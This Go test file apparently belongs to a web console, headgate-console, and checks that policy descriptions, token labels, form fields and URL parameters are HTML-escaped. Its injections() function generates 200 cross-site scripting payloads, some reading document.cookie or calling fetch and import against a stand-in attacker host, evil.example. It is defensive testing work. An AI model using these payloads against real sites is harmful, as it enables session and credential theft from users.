package web

import (
	"fmt"
	"net/http"
	"net/url"
	"strings"
	"testing"
	"time"

	"golang.org/x/net/html"

	"github.com/headgate/headgate/cmd/headgate-console/internal/service"
	"github.com/headgate/headgate/policy"
)

// injections returns 200 texts that change a page that does not escape them in their
// context.
func injections() []string {
	payloads := []string{
		"alert(1)", "alert`1`", "eval(name)", "document.cookie", "fetch('//evil.example')", "import('//evil.example')",
		"location='//evil.example'", "constructor.constructor('x')()",
	}

	// Each shape leaves another context: an element, an attribute, a script, a style, a comment or
	// a template.
	shapes := []string{
		"<script>%s</script>", "<ScRiPt >%s</sCrIpT>", "<img src=x onerror=%s>", `"><img src=x onerror="%s">`,
		"'><svg/onload='%s'>",
		"</title><script>%s</script>", "</textarea><script>%s</script>", "</select><svg onload=%s>",
		`" autofocus onfocus="%s`, `' onmouseover='%s`,
		"javascript:%s", "<a href=javascript:%s>x</a>", "<iframe srcdoc='<script>%s</script>'>", "{{%s}}", "${%s}",
		"</style><script>%s</script>", "--><script>%s</script>", "]]><script>%s</script>",
		"<math><mi xlink:href='javascript:%s'>", "<details open ontoggle=%s>",
		"&lt;script&gt;%s&lt;/script&gt;", "&#60;img src=x onerror=%s&#62;", "\u2028<script>%s</script>",
		"<body onload=%s>", "<base href='//evil.example'>%s",
	}

	var list []string
	for _, shape := range shapes {
		for _, p := range payloads {
			list = append(list, fmt.Sprintf(shape, p))
		}
	}
	return list
}

func TestEscapeStoredTexts(t *testing.T) {
	w := newWorld(t)
	p := w.policy("p", "5/1m")
	b := w.as("admin")

	// With a plain text the page has the structure that it must have with every other text.
	pages := []string{"/policies/p", "/policies/p/edit", "/new?from=p", "/apps"}
	for i := range recentSteps { // of which the page of the policy has so many
		p = w.describe(p, fmt.Sprint("plain ", i))
	}
	plain := map[string]string{}
	for _, page := range pages {
		plain[page] = b.get(page).outline()
	}

	list := injections()
	if len(list) != 200 {
		t.Fatalf("there are %d texts", len(list))
	}

	for _, text := range list {
		p = w.describe(p, text)

		// The outline has no texts: if it is the same, the text is nothing but text.
		for _, page := range pages {
			got := b.get(page).want(http.StatusOK)
			if got.outline() != plain[page] || !got.shows(text) {
				t.Fatalf("%s is another page with %q", page, text)
			}
		}
	}

	// These pages grow with each change, so they are looked at once, with all texts in them.
	for _, page := range []string{"/policies", "/audit", "/policies/p/history", "/policies/p/history?before=100"} {
		b.get(page).want(http.StatusOK).harmless(page)
	}
}

// describe gives a policy and an application a description.
func (w *world) describe(p policy.Policy, text string) policy.Policy {
	w.t.Helper()
	p.Description = text
	p, err := w.UpdatePolicy(w.t.Context(), w.admin, p)
	w.must(err)
	w.must(w.DescribeApp(w.t.Context(), w.admin, "a", text))
	return p
}

func TestEscapeTokenLabels(t *testing.T) {
	w := newWorld(t)

	// Tokens are revoked at once, as a user may have only so many, and stay in the list.
	for _, text := range injections() {
		draft := service.TokenDraft{Label: text[:min(len(text), service.MaxLabel)], Scope: service.Read,
			Life: time.Hour}
		token, _, err := w.CreateToken(t.Context(), w.admin, draft)
		w.must(err)
		w.must(w.RevokeToken(t.Context(), w.admin, token.ID))
	}

	got := w.as("admin").get("/account").want(http.StatusOK)
	got.harmless("/account")

	labels := map[string]bool{}
	got.each(func(n *html.Node) {
		if n.Data == "th" {
			labels[words(n)] = true
		}
	})

	// The label is shown as a whole, so nothing was cut away to make it harmless.
	for _, text := range injections() {
		if label := text[:min(len(text), service.MaxLabel)]; !labels[strings.TrimSpace(label)] {
			t.Errorf("%q is not shown as it is", label)
		}
	}
}

// shows reports whether a page has an element or a field of exactly this text.
func (a *answer) shows(text string) (found bool) {
	a.each(func(n *html.Node) {
		leaf := n.Data == "p" || n.Data == "textarea" || n.Data == "dd"
		found = found || leaf && words(n) == strings.TrimSpace(text) || n.Data == "input" && attr(n, "value") == text
	})
	return found
}

// harmless checks that the page has only elements and attributes that some page has.
func (a *answer) harmless(what string) {
	a.t.Helper()
	a.inline(what)

	for kind := range a.shape() {
		switch kind {
		case "iframe", "object", "embed", "base", "math", "mi", "body onload":
			a.t.Errorf("%s: there is a %q", what, kind)
		}
	}

	// Every address is on this console: a scheme or another host comes from an injection.
	a.each(func(n *html.Node) {
		for _, name := range []string{"href", "src", "action", "formaction"} {
			if v := attr(n, name); v != "" && !strings.HasPrefix(v, "/") && !strings.HasPrefix(v, "#") {
				a.t.Errorf("%s: a %s of a %s is %q", what, name, n.Data, v)
			}
		}
	})
}

// Every text field of every form, sent with texts that are refused or shown
// again at once.
func TestEscapeTextsSentBack(t *testing.T) {
	w, b := asAdmin(t)
	w.policy("p", "5/1m")

	list := injections()
	for _, page := range []struct{ at, action string }{
		{"/new", "/new"}, {"/policies/p/edit", "/policies/p/edit"},
		{"/keys?view=one", "/keys/try"}, {"/import", "/import"},
		{"/apps", "/apps"}, {"/users", "/users"}, {"/settings", "/settings"}, {"/account", "/account/tokens"},
		{"/account", "/account/password"}, {"/login", "/login"},
	} {
		form := b.get(page.at).want(http.StatusOK).form(page.action)
		if form == nil {
			t.Fatalf("%s has no form to %s", page.at, page.action)
		}

		// All fields have the text at once, so each page shows as many as it can.
		for _, text := range list {
			for name := range form {
				form[name] = []string{text}
			}

			// A log-in is of a browser without a session, and where it leads is a text as well.
			who := b
			if page.action == "/login" {
				who = w.browser()
				form["next"] = []string{text}
			}

			got := who.post(page.action, form)
			got.harmless(page.action + " with " + text)
			if got.status == http.StatusTooManyRequests {
				break // and so are all others
			}
			if t.Failed() {
				return
			}
		}
	}
}

func TestEscapeTextsInURLs(t *testing.T) {
	_, b := asAdmin(t)

	// A request with these in a URL is made by a link of another site.
	for _, text := range injections() {
		q := url.QueryEscape(text)
		for _, path := range []string{
			"/policies?search=" + q, "/policies?app=" + q, "/policies?sort=" + q, "/policies?mode=" + q,
			"/policies/" + url.PathEscape(text), "/users/" + url.PathEscape(text),
			"/audit?actor=" + q + "&since=" + q + "&action=" + q, "/keys?policy=" + q, "/keys?key=" + q, "/keys?view=" + q,
			"/keys?app=" + q, "/?app=" + q + "&range=" + q, "/live?app=" + q,
			"/login?next=" + q, "/validate?name=" + q + "&quota=" + q,
			"/apps/delete?name=" + q, "/policies?done=" + q, "/drawing.svg?limit=" + q,
		} {
			got := b.get(path)
			// Mistakes in the limit of a drawing are plain text, which a browser does not read as
			// HTML.
			if strings.HasPrefix(path, "/drawing") && got.header.Get("Content-Type") == "text/plain; charset=utf-8" {
				continue
			}
			got.harmless(path)
		}

		if t.Failed() {
			return
		}
	}
}
